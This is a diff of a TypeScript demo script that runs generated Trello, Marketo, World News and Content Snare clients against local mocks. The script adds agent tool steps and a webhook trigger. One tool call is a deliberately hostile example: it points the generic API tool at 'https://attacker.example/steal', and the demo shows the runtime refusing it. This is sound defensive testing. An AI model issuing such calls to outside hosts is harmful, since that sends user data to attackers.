@@ -1,50 +1,90 @@
 /**
- * `make demo`: the generated clients of the four integrations, each calling its service's mock on
- * loopback with made-up credentials. No network, no real accounts.
+ * `make demo`: the four integrations working against their behavioural mocks on 127.0.0.1, with
+ * made-up credentials: typed clients, an agent tool step (and a refused hostile one), and a
+ * Trello trigger fed by a signed webhook delivery. No network, no real accounts.
  */
-import { join } from "node:path";
-import { packageRoot } from "../generator/package-root.js";
-import { startPrism, type RunningPrism } from "../runtime/mock/prism.js";
-import { createContentsnareClient } from "../generated/contentsnare/index.js";
-import { createMarketoClient } from "../generated/marketo/index.js";
-import { createTrelloClient } from "../generated/trello/index.js";
-import { createWorldnewsClient } from "../generated/worldnews/index.js";
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
+import { ContentsnareClient } from "../generated/contentsnare/index.js";
+import { MarketoClient } from "../generated/marketo/index.js";
+import { TrelloClient, tools as trelloTools, triggers } from "../generated/trello/index.js";
+import { WorldnewsClient } from "../generated/worldnews/index.js";
+import { startMock, type RunningMock } from "../runtime/mock/index.js";
+import { executeToolByName } from "../runtime/tools/index.js";
+import { createTriggerRouter, createWebhookReceiver, ensureWebhook, type TriggerEvent } from "../runtime/triggers/index.js";
 
-const root = packageRoot();
-const running: RunningPrism[] = [];
-const mock = async (service: string, port: number) => {
-  const prism = await startPrism({ specFile: join(root, "specs", `${service}.yaml`), port });
-  running.push(prism);
-  return prism.url;
-};
-const show = (label: string, value: unknown) => console.log(`  ${label}: ${JSON.stringify(value).slice(0, 160)}`);
+const running: Array<{ close(): Promise<void> }> = [];
+const show = (label: string, value: unknown) => console.log(`  ${label.padEnd(22)} ${JSON.stringify(value).slice(0, 150)}`);
+const WEBHOOK_SECRET = "demo-app-secret";
+
+async function mock(service: string, options = {}): Promise<RunningMock> {
+  const m = await startMock(service, options);
+  running.push(m);
+  return m;
+}
 
 try {
-  console.log("trello (Prism contract mock)");
-  const trello = createTrelloClient({ connection: { name: "demo", fields: { apiKey: "0".repeat(32), token: "demo-token" } }, baseUrl: await mock("trello", 4310) });
-  const card = await trello.createCard({ body: { idList: "5abbe4b7ddc1b351ef961414", name: "Write the quarterly report" } });
-  show("createCard", { id: card.id, name: card.name });
-  const boards = await trello.getMemberBoards({ params: { path: { id: "me" } } });
-  show("getMemberBoards", boards.map((b) => b.name));
+  console.log("Trello — behavioural mock, key + token");
+  const trelloMock = await mock("trello", { webhookSecret: WEBHOOK_SECRET });
+  // Each mock accepts the default credentials its spec declares (x-stepforge.mock.credentials).
+  const trelloFields = { apiKey: "0123456789abcdef0123456789abcdef", token: "ATTAmocktoken0123456789abcdef0123456789abcdef" };
+  const trello = new TrelloClient({ connection: { name: "demo", fields: trelloFields }, baseUrl: trelloMock.url });
+  const [board] = await trello.getMemberBoards({ params: { path: { id: "me" } } });
+  const [todo, done] = await trello.getBoardLists({ params: { path: { id: board!.id } } });
 
-  console.log("worldnews");
-  const news = createWorldnewsClient({ connection: { name: "demo", fields: { apiKey: "demo-key-0000" } }, baseUrl: await mock("worldnews", 4311) });
-  const found = await news.searchNews({ params: { query: { text: "climate", language: "en", number: 2 } } });
+  // A trigger: register the webhook (the mock probes our receiver with HEAD), then watch moves.
+  const events: TriggerEvent[] = [];
+  const router = createTriggerRouter(triggers, [{ trigger: "trello_card_moved", connection: "demo", boards: [board!.id] }]);
+  const server = createServer((req, res) => receiver.nodeHandler(req, res));
+  await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
+  running.push({ close: () => new Promise<void>((r) => server.close(() => r())) });
+  const callbackUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}/hooks/trello`;
+  const receiver = createWebhookReceiver({ secret: WEBHOOK_SECRET, callbackUrl, delivery: triggers.delivery, onDelivery: (p) => void events.push(...router.route(p)) });
+  await ensureWebhook(triggers.delivery, (id, init) => trello.core.call(id, init), { modelId: board!.id, callbackUrl, connectionFields: trelloFields });
+
+  const card = await trello.createCard({ body: { idList: todo!.id, name: "Write the quarterly report", pos: "top" } });
+  show("createCard", { id: card.id, name: card.name });
+  const listCards = await trello.getListCards({ params: { path: { id: todo!.id } } });
+  show("getListCards", listCards.map((c) => c.name).slice(0, 3));
+
+  // The same thing an agent does: a tool step, validated, executed, answered with a result object.
+  const context = { connection: { name: "demo", fields: trelloFields }, baseUrl: trelloMock.url };
+  const moved = await executeToolByName(trelloTools, "trello_update_card", { id: card.id, idList: done!.id }, context);
+  show("tool update_card", moved.ok ? { ok: true, idList: (moved.data as { idList?: string }).idList } : moved);
+  const wrong = await executeToolByName(trelloTools, "trello_create_card", { name: 42 }, context);
+  show("tool bad input", wrong.ok ? wrong : { kind: wrong.error.kind, fields: wrong.error.fields });
+  const hostile = await executeToolByName(trelloTools, "trello_api_call", { method: "GET", endpoint: "https://attacker.example/steal", query_parameters: null, body: null }, context);
+  show("tool hostile path", hostile.ok ? hostile : { kind: hostile.error.kind, message: hostile.error.message.slice(0, 80) });
+  for (let i = 0; i < 50 && events.length === 0; i++) await new Promise((r) => setTimeout(r, 10));
+  show("trigger card_moved", events.map((e) => ({ card: e.card?.id, to: e.list?.id })));
+
+  console.log("Marketo — OAuth client credentials, token issued by the mock's identity endpoint");
+  const marketoMock = await mock("marketo");
+  const marketo = new MarketoClient({
+    connection: { name: "demo", fields: { endpoint: "https://123-ABC-456.mktorest.com/rest", clientId: "5a8e6a0d-3c1f-4b8e-9d2a-7f4c1e0b9a61", clientSecret: "mock-client-secret-0123456789abcdef" } },
+    baseUrl: marketoMock.url,
+  });
+  const synced = await marketo.syncLeads({ body: { action: "createOrUpdate", lookupField: "email", input: [{ email: "ada@example.com", firstName: "Ada" }] } });
+  show("syncLeads", synced.result);
+  const leads = await marketo.getLeads({ params: { query: { filterType: "email", filterValues: ["ada@example.com"] } } });
+  show("getLeads", leads.result?.map((l) => ({ id: l.id, email: l.email })));
+
+  console.log("World News API — API key");
+  const newsMock = await mock("worldnews");
+  const news = new WorldnewsClient({ connection: { name: "demo", fields: { apiKey: "mock-worldnews-api-key-0123456789" } }, baseUrl: newsMock.url });
+  const found = await news.searchNews({ params: { query: { text: "electric", language: "en", number: 2 } } });
   show("searchNews", found.news?.map((a) => a.title));
 
-  console.log("contentsnare");
-  const snare = createContentsnareClient({
-    connection: { name: "demo", fields: { clientId: "demo", clientSecret: "demo-secret", accessToken: "demo-access", refreshToken: "demo-refresh", expiresAt: new Date(Date.now() + 3_600_000).toISOString() } },
-    baseUrl: await mock("contentsnare", 4312),
+  console.log("Content Snare — OAuth authorization code (bearer)");
+  const snareMock = await mock("contentsnare");
+  const snare = new ContentsnareClient({
+    connection: { name: "demo", fields: { clientId: "mock-client-id", clientSecret: "mock-client-secret", accessToken: "mock-access-token", refreshToken: "mock-refresh-token" } },
+    baseUrl: snareMock.url,
   });
   const client = await snare.createClient({ body: { email: "jo@example.com", full_name: "Jo Bloggs" } });
   show("createClient", { id: client.id, email: client.email });
-
-  console.log("marketo");
-  const marketoUrl = await mock("marketo", 4313);
-  const marketo = createMarketoClient({ connection: { name: "demo", fields: { endpoint: "https://123-ABC-456.mktorest.com", clientId: "demo", clientSecret: "demo-secret" } }, baseUrl: marketoUrl });
-  const leads = await marketo.getLeads({ params: { query: { filterType: "email", filterValues: ["jo@example.com"] } } });
-  show("getLeads", leads.result);
+  const clients = await snare.listClients();
+  show("listClients", clients.results?.map((c) => c.email).slice(0, 3));
 } finally {
-  await Promise.all(running.map((p) => p.close()));
+  await Promise.all(running.map((r) => r.close()));
 }
